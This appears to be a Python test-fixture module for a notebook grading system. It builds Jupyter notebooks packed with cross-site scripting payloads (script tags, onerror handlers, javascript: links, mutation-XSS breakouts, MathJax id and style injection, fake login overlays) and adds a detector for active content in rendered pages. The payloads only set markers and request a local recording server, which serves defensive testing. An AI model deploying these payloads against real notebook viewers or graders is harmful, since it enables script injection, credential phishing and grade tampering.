"""A family of payloads that try to run or load something where a submission is shown.

Every payload, when it works, sets its own marker: ``window.pwnedI``, the page title
``1000 + I`` and a request to ``{hit}/NAME`` (a recording HTTP server on 127.0.0.1); payloads
that can only load get a URL under ``{hit}`` as well. The notebooks are the toy
assignment's student version, solved, with the payloads in each place a student controls:
the written answer (a graded markdown cell), added markdown and raw cells, outputs of every
MIME type made by code that runs in the sandbox, attachments, cell and notebook metadata.
The honest notebook draws a PNG and writes math, which must still show.
"""

import base64
import re
import struct
import zlib
from html.parser import HTMLParser

import nbformat
from notebooks import solved

# (payload name, markdown/HTML with {js} and {hit} placeholders)
MARKDOWN = [
    ("script", "<script>{js}</script>"),
    ("img-onerror", '<img src=x onerror="{js}">'),
    ("svg-onload", '<svg onload="{js}"><circle r=4 /></svg>'),
    ("a-javascript", '<a class="pwn-link" href="javascript:{js}">click me</a>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>parent.{js}</script>"></iframe>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url={hit}/refresh">'),
    ("base-href", '<base href="{hit}/base/"><img src="relative.png">'),
    ("form-action", '<form action="{hit}/form" method="post"><input name=a autofocus '
                    'onfocus="{js}"><button class="pwn-submit">go</button></form>'),
    ("css-url", '<div style="background-image:url({hit}/css)">styled</div>'),
    ("css-import", "<style>@import url({hit}/import); body {{background:url({hit}/bg)}}</style>"),
    ("object-embed", '<object data="{hit}/object"></object><embed src="{hit}/embed">'),
    ("md-javascript-link", "[a markdown link](javascript:{js})"),
    ("remote-img", '<img src="{hit}/img"> ![remote]({hit}/mdimg)'),
    ("link-stylesheet", '<link rel="stylesheet" href="{hit}/link">'),
    ("details-ontoggle", '<details open ontoggle="{js}"><summary>s</summary></details>'),
    ("mxss-noscript", '<noscript><p title="</noscript><img src=x onerror={js}>"></noscript>'),
    ("mxss-math", "<math><mtext><table><mglyph><style><img src=x onerror={js}>"),
    ("video-source", '<video><source onerror="{js}"></video>'),
    ("entity-javascript", '<a href="&#106;avascript:{js}">entity</a>'),
    ("tab-javascript", '<a href="java\tscript:{js}">tab</a>'),
    ("svg-animate", '<svg><animate onbegin="{js}" attributeName="x" dur="1s"/></svg>'),
    ("body-onload", '<body onload="{js}">'),
    ("table-background", '<table background="{hit}/table"><tr><td>t</td></tr></table>'),
    ("input-image", '<input type="image" src="{hit}/input">'),
    ("math-href", '<math href="javascript:{js}"><mi>x</mi></math>'),
    ("xmp-breakout", '<xmp><p title="</xmp><img src=x onerror={js}>"></xmp>'),
    # links that nbconvert's strip_files_prefix would make live if it ran after the sanitizer
    ("files-javascript", "[files link](files/javascript:{js})"),
    ("files-javascript-case", '<a href="/files/JaVaScRiPt:{js}">case</a>'),
    ("files-javascript-tab", '<a href="files/java&#9;script:{js}">tab entity</a>'),
    ("files-data-html", "[data link](files/data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)"),
    ("mathjax-mmltoken", "$\\mmlToken{{mi}}[href=\"javascript:{js}\"]{{x}}$"),
]

# content that names the page's elements or wears its styles, with no script at all: the
# written answer's headings take the ids of the formgrader's score inputs (``$("#" + id)``),
# classes and ids make fixed overlays, MathJax makes ids, classes and styles
NAMES = [
    ("heading-ids", "## test_add_hidden\n\n## test_softmax_visible\n\n[to the tests](#test_add_hidden)"),
    ("html-ids", '<div id="test_softmax_hidden">x</div><span id="why-comment">c</span>'
                 '<label for="test_add_visible" name="test_add_visible">l</label>'),
    ("overlay-classes", '<div class="modal-backdrop navbar-fixed-top full-credit score tabbable nbgrader_cell" '
                        'id="statusmessage">session expired: <a href="https://example.org">log in</a></div>'),
    ("mathjax-names", "$\\mmlToken{mi}[id=\"test_add_visible\" class=\"modal-backdrop\" "
                      "style=\"position:fixed;top:0;left:0;width:100%;height:100%\"]{x}$ "
                      "$\\cssId{test_softmax_visible}{y}$ $\\class{navbar-fixed-top}{z}$ "
                      "$\\style{position:fixed;top:0;left:0;width:100%;height:100%}{w}$"),
    # the same macros inside text mode, which the page's textmacros extension parses
    ("mathjax-text-names", "$\\text{\\cssId{why}{a} \\class{modal-backdrop}{b} "
                           "\\style{position:fixed;top:0;left:0;width:100%;height:100%}{c}}$"),
]
# the ids the formgrader's page gives its own elements, which student content must never take
PAGE_IDS = ("test_add_visible", "test_add_hidden", "test_softmax_visible", "test_softmax_hidden",
            "why", "why-comment", "statusmessage")

# code run in the sandboxed kernel, one display per MIME type (and metadata) family
OUTPUTS = [
    ("html-output", "display(HTML('<script>{js}</script><img src=x onerror=\"{js}\">'))"),
    ("javascript-output", "display(Javascript('{js}'))"),
    ("svg-output", "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{js}\">"
                   "<script>{js}</script><image href=\"{hit}/svgimg\"/></svg>'))"),
    ("markdown-output", "display(Markdown('<img src=x onerror=\"{js}\"> [l](javascript:{js})'))"),
    ("latex-output", "display(Latex(r'$\\href{{javascript:{js}}}{{x}}$ <img src=x onerror=\"{js}\">'))"),
    ("png-metadata", "display({{'image/png': PNG}}, raw=True, "
                     "metadata={{'image/png': {{'width': '1 onload={js}', 'alt': '\" onload=\"{js}'}}}})"),
    ("widget-view", "display({{'application/vnd.jupyter.widget-view+json': "
                    "{{'model_id': '</script><script>{js}</script>'}}, 'text/plain': 'w'}}, raw=True)"),
    ("isolated-html", "display({{'text/html': '<script>{js}</script>'}}, raw=True, "
                      "metadata={{'text/html': {{'isolated': True}}}})"),
    ("unknown-mime", "display({{'application/x-pwn': '<script>{js}</script>', 'text/plain': 'u'}}, raw=True)"),
]

EVIL_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"><script>{js}</script>'
            '<rect width="4" height="4"/></svg>')


def names():
    return ([n for n, _ in MARKDOWN] + [n for n, _ in OUTPUTS]
            + ["raw-html", "attachment-svg", "cell-tags", "widget-state"])


def marker_js(name, hit, request=True):
    """What payload ``name`` does when it runs: ``window.pwnedI = 1``, the title ``1000 + I``
    and (unless not ``request``) a request to ``{hit}/name``. No quotes, spaces or underscores, so that it survives
    any quoting (HTML attributes, Python strings, markdown links) unchanged."""
    i = names().index(name)
    url = ",".join(str(ord(ch)) for ch in f"{hit}/{name}")
    fetch = f";fetch(String.fromCharCode({url}))" if request else ""
    return f"window.pwned{i}=1;document.title={1000 + i}{fetch}"


def png(width=24, height=16):
    """A small opaque PNG (a red/blue gradient), as the honest plot."""
    rows = b"".join(b"\0" + bytes(c for x in range(width) for c in (255 * x // width, 40, 200, 255))
                    for _ in range(height))

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def _answer_cell(nb):
    return next(c for c in nb.cells if c.cell_type == "markdown"
                and c.metadata.get("nbgrader", {}).get("solution"))


def honest(source_nb, release):
    nb = solved(release, source_nb)
    _answer_cell(nb).source = (
        "Subtracting $m = \\max_j x_j$ leaves $\\sigma(x)_i = e^{x_i - m} / \\sum_j e^{x_j - m}$ "
        "unchanged, and $$e^{x_i - m} \\le 1.$$ In bold $\\boldsymbol{x}$, in colour "
        "$\\color{red}{m}$, cancelled $\\cancel{e^{m}}$ (each an extension MathJax loads); "
        "text in math as written: $\\theta_i = \\text{inv\\_freq}_i$.")
    code = (f"import base64\nfrom IPython.display import Image, display\n"
            f"display(Image(data=base64.b64decode('{base64.b64encode(png()).decode()}')))")
    nb.cells.append(nbformat.v4.new_code_cell(code))
    return nb


def hostile_markdown(source_nb, release, hit):
    nb = solved(release, source_nb)
    parts = [f"\n\n{payload.format(js=marker_js(name, hit), hit=hit)}\n\n" for name, payload in MARKDOWN]
    names = "".join(f"\n\n{payload}\n\n" for _, payload in NAMES)
    _answer_cell(nb).source = "My answer." + names + "".join(parts[::2])
    nb.cells.append(nbformat.v4.new_markdown_cell("More." + "".join(parts[1::2])))
    return nb


def hostile_outputs(source_nb, release, hit):
    nb = solved(release, source_nb)
    lines = ["from IPython.display import HTML, Javascript, Latex, Markdown, SVG, display",
             f"PNG = '{base64.b64encode(png()).decode()}'"]
    lines += [code.format(js=marker_js(name, hit), hit=hit) for name, code in OUTPUTS]
    nb.cells.append(nbformat.v4.new_code_cell("\n".join(lines)))
    return nb


def hostile_cells(source_nb, release, hit):
    """Raw HTML cells, an SVG attachment, hostile cell tags and widget state."""
    nb = solved(release, source_nb)
    raw = nbformat.v4.new_raw_cell(f"<script>{marker_js('raw-html', hit)}</script>"
                                   f"<img src=x onerror=\"{marker_js('raw-html', hit)}\">")
    raw.metadata["raw_mimetype"] = "text/html"
    raw.metadata["format"] = "text/html"
    svg = EVIL_SVG.format(js=marker_js("attachment-svg", hit))
    attached = nbformat.v4.new_markdown_cell("An attachment: ![evil](attachment:evil.svg)")
    attached.attachments = {"evil.svg": {"image/svg+xml": base64.b64encode(svg.encode()).decode()}}
    # nbformat allows no comma in a tag: this payload sets its marker without a request
    attached.metadata["tags"] = [f'x" onmouseover="{marker_js("cell-tags", hit, request=False)}" y="']
    nb.cells += [raw, attached]
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {}, "version_major": 2, "version_minor": 0,
        "evil": f"</script><script>{marker_js('widget-state', hit)}</script>"}}
    return nb


def baked_outputs(hit):
    """The outputs :data:`OUTPUTS` make when run, built directly (for renders without a kernel)."""
    def js(name):
        return marker_js(name, hit)

    def out(data, metadata=None):
        return nbformat.v4.new_output("display_data", data=data, metadata=metadata or {})
    svg = EVIL_SVG.format(js=js("svg-output"))
    return [
        out({"text/html": f'<script>{js("html-output")}</script><img src=x onerror="{js("html-output")}">'}),
        out({"application/javascript": js("javascript-output"), "text/plain": "<js>"}),
        out({"image/svg+xml": svg, "text/plain": "<svg>"}),
        out({"text/markdown": f'<img src=x onerror="{js("markdown-output")}"> [l](javascript:{js("markdown-output")})'}),
        out({"text/latex": f'$\\href{{javascript:{js("latex-output")}}}{{x}}$ <img src=x onerror="{js("latex-output")}">'}),
        out({"image/png": base64.b64encode(png()).decode()},
            {"image/png": {"width": f"1 onload={js('png-metadata')}", "alt": f'" onload="{js("png-metadata")}'}}),
        out({"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{js('widget-view')}</script>"},
             "text/plain": "w"}),
        out({"text/html": f"<script>{js('isolated-html')}</script>"}, {"text/html": {"isolated": True}}),
        out({"application/x-pwn": f"<script>{js('unknown-mime')}</script>", "text/plain": "u"}),
    ]


# -- what a rendered page holds that could run or load something ---------------------------
_NEVER = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "link", "form",
          "portal", "audio", "video", "source", "track"}
_LOADS = {"src", "data", "action", "formaction", "srcset", "poster", "background", "xlink:href",
          "codebase"}
_SCHEME = re.compile(r"[a-z][a-z0-9+.\-]*:")
_REMOTE_CSS = re.compile(r"@import|url\(\s*['\"]?\s*(https?:|//)", re.I)


class _Finder(HTMLParser):
    def __init__(self, allowed):
        super().__init__(convert_charrefs=True)
        self.allowed, self.found, self.text = allowed, [], None

    def handle_starttag(self, tag, attrs):
        attrs = {name: (value or "") for name, value in attrs}
        if tag == "script":
            src = attrs.get("src")
            if src is not None and not src.startswith(tuple(self.allowed)):
                self.found.append(f"<script src={src}>")
        if tag in ("script", "style"):
            self.text = []
        if tag in _NEVER:
            self.found.append(f"<{tag}>")
        if tag == "meta" and attrs.get("http-equiv", "").lower() not in ("", "content-security-policy"):
            self.found.append(f"<meta http-equiv={attrs['http-equiv']}>")
        for name, value in attrs.items():
            value = value.strip().lower()
            scheme = _SCHEME.match(value).group() if name in _LOADS | {"href"} and _SCHEME.match(value) else ""
            if name.startswith("on") or name == "srcdoc":
                self.found.append(f"<{tag} {name}>")
            elif scheme and scheme not in ("http:", "https:", "mailto:") and not value.startswith("data:image/"):
                self.found.append(f"<{tag} {name}={value[:40]}>")
            elif name in _LOADS and value.startswith(("http:", "https:", "//")) \
                    and not (tag == "script" and value.startswith(tuple(self.allowed))):
                self.found.append(f"<{tag} {name}={value[:60]}> (a remote load)")
            elif name == "style" and _REMOTE_CSS.search(value):
                self.found.append(f"<{tag} style={value[:40]}>")

    def handle_data(self, data):
        if self.text is not None:
            self.text.append(data)

    def handle_endtag(self, tag):
        if tag in ("script", "style") and self.text is not None:
            text, self.text = "".join(self.text), None
            if tag == "style" and _REMOTE_CSS.search(text):
                self.found.append(f"<style>{text.strip()[:60]}")
            elif tag == "script" and text.strip() and text not in self.allowed:
                self.found.append(f"<script>{text.strip()[:20]}")


def active_content(page, allowed=()):
    """Every element or attribute of ``page`` that could run code or load from elsewhere.

    Scripts count unless their ``src`` starts with, or their text is, one of ``allowed`` (the
    page's own); an ``on*`` or ``srcdoc`` attribute, a URL of any scheme but http(s), mailto
    and ``data:image/``, a remote ``src``-like URL, CSS that imports or names a remote URL,
    and frames, objects, forms, links, ``<base>`` and refreshes are findings.
    """
    finder = _Finder(allowed)
    finder.feed(page)
    return finder.found
